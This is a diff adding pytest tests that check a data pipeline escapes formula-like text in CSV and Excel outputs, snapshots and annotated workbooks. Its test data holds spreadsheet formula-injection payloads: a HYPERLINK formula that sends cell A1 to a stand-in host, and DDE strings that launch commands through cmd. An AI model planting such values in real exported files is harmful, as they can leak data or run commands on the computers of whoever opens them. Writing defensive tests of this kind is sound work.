@@ -405,3 +405,110 @@ def test_fraction_disagreeing_with_its_parts_is_still_a_mismatch(city: TemplateF
     v = check(city.save())
     assert not v.accepted and v.rule_codes() == ["R_VALUE_MISMATCH"]
     located(only(v, "R_VALUE_MISMATCH"), "data!C11")
+
+
+# --- 9. formula-like text from a return never runs in a file the system writes ------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /c calc'!A0", "@SUM(1+1)*cmd|' /c calc'!A0", "-2+3+cmd|' /c calc'!A0",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_formula_like_text_is_escaped_in_csv_and_numbers_are_not():
+    from contracts.spreadsheet import escape_frame, escape_text, unescape_frame
+
+    frame = pl.DataFrame({"comment": [*FORMULAS, "'quoted", "ok", None], "value": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, None]})
+    safe = escape_frame(frame)
+    assert safe["comment"].to_list() == [*("'" + f for f in FORMULAS), "''quoted", "ok", None]
+    assert safe["value"].to_list() == frame["value"].to_list()  # -1.5 is a number, written as -1.5
+    assert ",-1.5\n" in safe.write_csv()
+    assert unescape_frame(safe).equals(frame)  # reversible: a snapshot read back is the text as typed
+    assert escape_text("=1") == "'=1" and escape_text("1=1") == "1=1"
+
+
+def test_snapshot_csv_escapes_and_recomputes_to_the_same_bytes(tmp_path: Path):
+    """canonical_csv escapes; the snapshot's reader undoes it, so writing what was read gives the same bytes."""
+    from pipelines.snapshots import _read_input, canonical_csv
+
+    frame = pl.DataFrame({"comment": FORMULAS, "value": [-1.0, 2.5, 3.0, 4.0, 5.0, 6.0]})
+    data = canonical_csv(frame)
+    assert all(f"'{f}".encode() in data or f"\"'{f}".encode() in data for f in ("=HYPERLINK", "+cmd", "@SUM", "-2+3"))
+    path = tmp_path / "stg.csv"
+    path.write_bytes(data)
+    path.with_suffix(".schema.json").write_text(json.dumps({"comment": "String", "value": "Float64"}))
+    back = _read_input(path)
+    assert back.sort("comment").equals(frame.sort("comment"))
+    assert canonical_csv(back) == data
+
+
+def test_dashboard_downloads_never_hold_a_formula():
+    from dashboard.views import csv_bytes, xlsx_bytes
+
+    frame = pl.DataFrame({"comment": FORMULAS[:3], "value": [-1.0, 2.0, 3.0]})
+    data = csv_bytes(frame)
+    assert b"'=HYPERLINK" in data and b"\n'+cmd" in data and b"\n'@SUM" in data and b",-1.0" in data
+    path_xlsx = xlsx_bytes(frame)
+    import io
+
+    with zipfile.ZipFile(io.BytesIO(path_xlsx)) as zf:
+        sheet = zf.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet and b"<f " not in sheet
+    import openpyxl
+
+    ws = openpyxl.load_workbook(io.BytesIO(path_xlsx)).active
+    assert ws["A2"].value == FORMULAS[0] and ws["A2"].data_type == "s" and ws["B2"].value == -1
+
+
+def test_cli_csv_output_escapes_text(capsys: pytest.CaptureFixture):
+    from pipelines.cli import _emit
+
+    _emit(pl.DataFrame({"region_code": ["KZ-75"], "comment": [FORMULAS[1]], "gap": [-2.5]}), "csv")
+    out = capsys.readouterr().out
+    assert out.splitlines()[1] == "KZ-75,'+cmd|' /c calc'!A0,-2.5"
+
+
+def test_annotated_copy_holds_no_formula_from_the_return(city: TemplateFile, tmp_path: Path):
+    """A rejected workbook with a text cell "=HYPERLINK(...)" and a real formula: the annotated copy keeps the
+    text as text and the formula's saved result only."""
+    from pipelines.returns.annotate import annotate_workbook
+
+    cell = city.ws["F11"]
+    cell.value = FORMULAS[0]
+    cell.data_type = "s"  # typed as text, as a CSV or a quote-prefixed cell arrives
+    city.ws["F12"] = '=HYPERLINK("http://x.example","click")'  # a formula (no saved result)
+    city.set("G1.K6.R3", value="abc")  # an error, so the file is rejected and annotated
+    path = city.save()
+    v = check(path)
+    assert not v.accepted
+    out = tmp_path / "annotated.xlsx"
+    annotate_workbook(path, v.issues, out)
+    with zipfile.ZipFile(out) as zf:
+        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
+    assert b"<f>" not in xml and b"<f " not in xml
+    import openpyxl
+
+    ws = openpyxl.load_workbook(out)["data"]
+    assert ws["F11"].value == FORMULAS[0] and ws["F11"].data_type == "s"
+
+
+@pytest.mark.slow
+def test_snapshot_of_a_return_with_formula_text_is_escaped_and_verifies(tmp_path: Path, bilim_home: Path):
+    """End to end: a flat CSV return whose comments are formulas is accepted, built and snapshotted; the snapshot's
+    CSV holds the escaped text and `verify` recomputes it to the same bytes."""
+    from pipelines.returns.ingest import ACCEPTED
+    from pipelines.runner import prepare_dagster_home, run_all
+    from pipelines.snapshots import take_snapshot, verify
+    from tests.conftest import submit_and_accept
+
+    recs = flat_rows("KZ-75", 2023)
+    for rec, text in zip(recs, FORMULAS, strict=False):
+        rec["comment"] = text
+    path = write_flat_csv(tmp_path / "return.csv", recs)
+    layout = Layout.current()
+    assert submit_and_accept(path, load_context(layout), layout).status == ACCEPTED
+    prepare_dagster_home(layout)
+    ok, _, message = run_all()
+    assert ok, message
+    meta = take_snapshot(layout)
+    staged = (layout.snapshots / meta["snapshot_id"] / "inputs" / "stg_returns__values.csv").read_bytes()
+    assert b"'=HYPERLINK" in staged and b"'+cmd" in staged and b",=HYPERLINK" not in staged
+    assert verify(layout, meta["snapshot_id"]) == []
